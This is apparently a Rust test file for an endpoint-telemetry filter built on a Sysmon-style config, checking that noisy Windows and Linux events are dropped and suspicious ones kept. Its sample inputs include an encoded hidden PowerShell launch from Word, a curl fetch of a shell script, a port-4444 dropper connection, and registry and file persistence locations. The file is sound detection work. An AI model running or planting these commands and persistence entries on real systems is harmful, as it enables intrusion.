//! A filter config of several hundred values in the style of the original's shipped config
//! (derived from SwiftOnSecurity's sysmon-config), applied to realistic events.

use watchpost_catalog::{Event, Stamper, Value, catalog};
use watchpost_filters::{FilterSet, Verdict};

const CONFIG: &str = include_str!("fixtures/sysmon-style.conf");

/// Compiled once for all tests (building the automata is slow in debug builds).
fn filters() -> &'static FilterSet {
    static FILTERS: std::sync::OnceLock<FilterSet> = std::sync::OnceLock::new();
    FILTERS.get_or_init(|| {
        let config = watchpost_config::parse("sysmon-style.conf", CONFIG).unwrap();
        FilterSet::compile(&config.filters).unwrap()
    })
}

fn event(table: &str, values: &[(&str, Value)]) -> Event {
    let table = catalog().table(table).unwrap();
    let mut event = Event::new(table, Stamper::global().stamp());
    for (column, value) in values {
        event.set(table.column_index(column).unwrap(), value.clone());
    }
    event
}

fn explain(set: &FilterSet, table: &str, values: &[(&str, &str)]) -> String {
    let values: Vec<(String, String)> = values.iter().map(|(c, v)| (c.to_string(), v.to_string())).collect();
    set.explain(table, &values).unwrap().to_string()
}

#[test]
fn the_config_holds_several_hundred_values() {
    let set = filters();
    let count = |table: &str| set.filter_count(catalog().table(table).unwrap().id);
    assert_eq!(count("win_process_events"), 139 + 52 + 15);
    assert_eq!(count("win_registry_events"), 99 + 5);
    assert_eq!(count("win_socket_events"), 46 + 8 + 12);
    assert_eq!(count("win_image_load_events"), 72);
    assert_eq!(count("win_dns_events"), 85);
    assert_eq!(count("win_file_events"), 73 + 19);
    assert_eq!(count("win_http_events"), 0);
}

#[test]
fn process_noise_is_dropped_and_the_rest_kept() {
    let set = filters();
    let process = |cmdline: &str, path: &str, parent: &str| {
        set.judge(&event(
            "win_process_events",
            &[("cmdline", cmdline.into()), ("path", path.into()), ("parent_path", parent.into())],
        ))
    };
    let explorer = r"C:\Windows\explorer.exe";
    assert_eq!(
        process(
            r"C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s Schedule",
            r"C:\WINDOWS\system32\svchost.exe",
            r"C:\WINDOWS\system32\services.exe"
        ),
        Verdict::Drop
    );
    assert_eq!(
        process(
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1732,i,123 /prefetch:1"#,
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r"C:\Program Files\Google\Chrome\Application\chrome.exe"
        ),
        Verdict::Drop
    );
    // A user-profile path inside the value (`C:\Users\*\...`).
    assert_eq!(
        process(
            r#""C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#,
            r"C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe",
            explorer
        ),
        Verdict::Drop
    );
    // A versioned directory inside the value.
    assert_eq!(
        process(
            r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23050.3-0\MsMpEng.exe",
            r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23050.3-0\MsMpEng.exe",
            r"C:\Windows\System32\services.exe"
        ),
        Verdict::Drop
    );
    // What an analyst wants to see stays.
    assert_eq!(
        process(
            r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
        ),
        Verdict::Keep
    );
    assert_eq!(
        process(r"C:\Windows\system32\cmd.exe /c whoami", r"C:\Windows\System32\cmd.exe", explorer),
        Verdict::Keep
    );
    // The excluded svchost command line needs its `-s SERVICE` part.
    assert_eq!(
        process(r"C:\Windows\System32\svchost.exe -k netsvcs", r"C:\Windows\System32\svchost.exe", explorer),
        Verdict::Keep
    );
    assert_eq!(
        process("/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald", ""),
        Verdict::Drop
    );
    assert_eq!(process("curl http://203.0.113.7/x.sh", "/usr/bin/curl", "/usr/bin/bash"), Verdict::Keep);
    assert_eq!(
        explain(
            set,
            "win_process_events",
            &[("cmdline", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS"), ("path", r"C:\x.exe")]
        ),
        r#"drop: cmdline "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS" matches exclude value "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s *" (config line 22, column 13)"#
    );
}

#[test]
fn only_registry_persistence_locations_are_kept() {
    let set = filters();
    let registry = |target: &str, action: &str| {
        set.judge(&event("win_registry_events", &[("target_name", target.into()), ("action", action.into())]))
    };
    let run_key = r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater";
    assert_eq!(registry(run_key, "REG_SETVALUE"), Verdict::Keep);
    // Exclude wins: reads of the same key are noise.
    assert_eq!(registry(run_key, "REG_QUERYVALUE"), Verdict::Drop);
    assert_eq!(registry(run_key, "reg_queryvalue"), Verdict::Drop);
    assert_eq!(
        registry(
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger",
            "REG_SETVALUE"
        ),
        Verdict::Keep
    );
    assert_eq!(
        registry(r"HKLM\SYSTEM\CurrentControlSet\Services\EvilSvc\ImagePath", "REG_CREATEKEY"),
        Verdict::Keep
    );
    assert_eq!(
        registry(r"HKLM\SYSTEM\CURRENTCONTROLSET\CONTROL\LSA\SECURITY PACKAGES", "REG_SETVALUE"),
        Verdict::Keep
    );
    assert_eq!(
        registry(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.txt", "REG_SETVALUE"),
        Verdict::Drop
    );
    assert_eq!(
        registry(r"HKLM\SYSTEM\CurrentControlSet\Services\EvilSvc\Description", "REG_SETVALUE"),
        Verdict::Drop
    );
    assert_eq!(
        explain(
            set,
            "win_registry_events",
            &[("target_name", r"HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce\x")]
        ),
        r#"keep: target_name "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x" matches include value "*\\CurrentVersion\\Run*" (config line 242, column 13)"#
    );
}

#[test]
fn socket_noise_is_dropped_by_process_port_or_address() {
    let set = filters();
    let socket = |process: &str, port: i64, address: &str| {
        set.judge(&event(
            "win_socket_events",
            &[
                ("process_name", process.into()),
                ("remote_port", Value::Integer(port)),
                ("remote_address", address.into()),
            ],
        ))
    };
    let dropper = r"C:\Users\bob\AppData\Local\Temp\x.exe";
    assert_eq!(socket(r"C:\Windows\System32\svchost.exe", 443, "13.107.4.52"), Verdict::Drop);
    assert_eq!(
        socket(r"C:\Users\bob\AppData\Local\Microsoft\Teams\current\Teams.exe", 443, "52.113.194.132"),
        Verdict::Drop
    );
    assert_eq!(socket(dropper, 4444, "203.0.113.9"), Verdict::Keep);
    assert_eq!(socket(dropper, 53, "203.0.113.9"), Verdict::Drop);
    assert_eq!(socket(dropper, 5353, "203.0.113.9"), Verdict::Drop);
    assert_eq!(socket(dropper, 535, "203.0.113.9"), Verdict::Keep);
    assert_eq!(socket(dropper, 4444, "127.0.0.1"), Verdict::Drop);
    assert_eq!(socket(dropper, 4444, "fe80::1c2a:9ff:fe3b:1"), Verdict::Drop);
    assert_eq!(socket(dropper, 4444, "192.168.1.255"), Verdict::Drop);
    assert_eq!(socket(dropper, 4444, "192.168.1.25"), Verdict::Keep);
}

#[test]
fn image_loads_of_system_libraries_are_dropped() {
    let set = filters();
    let image = |path: &str| set.judge(&event("win_image_load_events", &[("image_path", path.into())]));
    assert_eq!(image(r"C:\Windows\System32\ntdll.dll"), Verdict::Drop);
    assert_eq!(image(r"c:\windows\system32\KERNELBASE.DLL"), Verdict::Drop);
    assert_eq!(
        image(
            r"C:\Windows\assembly\NativeImages_v4.0.30319_64\mscorlib\2d5ec2e4a5b2b4f0c1d8e6b6b5b0f8a1\mscorlib.ni.dll"
        ),
        Verdict::Drop
    );
    assert_eq!(
        image(
            r"C:\Windows\WinSxS\amd64_microsoft.windows.common-controls_6595b64144ccf1df_6.0.19041.1110_none_60b5254171f9507e\comctl32.dll"
        ),
        Verdict::Drop
    );
    assert_eq!(image(r"C:\Users\bob\AppData\Local\Temp\evil.dll"), Verdict::Keep);
    assert_eq!(image(r"C:\Windows\System32\amsi.dll"), Verdict::Keep);
    assert_eq!(image("/usr/lib/x86_64-linux-gnu/libsystemd.so.0"), Verdict::Drop);
}

#[test]
fn dns_lookups_of_well_known_domains_are_dropped() {
    let set = filters();
    let dns = |name: &str| set.judge(&event("win_dns_events", &[("domain_name", name.into())]));
    assert_eq!(dns("settings-win.data.microsoft.com"), Verdict::Drop);
    assert_eq!(dns("SETTINGS-WIN.DATA.MICROSOFT.COM"), Verdict::Drop);
    assert_eq!(dns("ocsp.digicert.com"), Verdict::Drop);
    assert_eq!(dns("4.3.2.1.in-addr.arpa"), Verdict::Drop);
    assert_eq!(dns("WPAD"), Verdict::Drop);
    // `*.microsoft.com` needs a label before the domain.
    assert_eq!(dns("microsoft.com"), Verdict::Keep);
    assert_eq!(dns("microsoft.com.evil.example"), Verdict::Keep);
    assert_eq!(dns("login.microsoftonline.com.phish.example"), Verdict::Keep);
}

#[test]
fn file_events_are_kept_in_interesting_places_unless_a_noisy_process_wrote_them() {
    let set = filters();
    let file = |target: &str, process: &str| {
        set.judge(&event(
            "win_file_events",
            &[("target_path", target.into()), ("process_name", process.into())],
        ))
    };
    let explorer = r"C:\Windows\explorer.exe";
    assert_eq!(file(r"C:\Users\bob\Downloads\invoice.pdf.exe", explorer), Verdict::Keep);
    assert_eq!(file(r"C:\Users\bob\Documents\notes.txt", explorer), Verdict::Drop);
    assert_eq!(file(r"C:\Users\bob\Desktop\update.PS1", explorer), Verdict::Keep);
    assert_eq!(
        file(
            r"C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\run.lnk",
            r"C:\Users\bob\AppData\Local\Temp\dropper.exe"
        ),
        Verdict::Keep
    );
    assert_eq!(file(r"C:\Windows\System32\Tasks\Updater", r"C:\Windows\System32\svchost.exe"), Verdict::Drop);
    assert_eq!(
        file(r"C:\Windows\System32\Tasks\Updater", r"C:\Windows\System32\schtasks.exe"),
        Verdict::Keep
    );
    assert_eq!(file("/home/bob/.ssh/authorized_keys", "/usr/bin/bash"), Verdict::Keep);
    assert_eq!(file("/home/bob/.ssh/known_hosts", "/usr/bin/ssh"), Verdict::Drop);
}
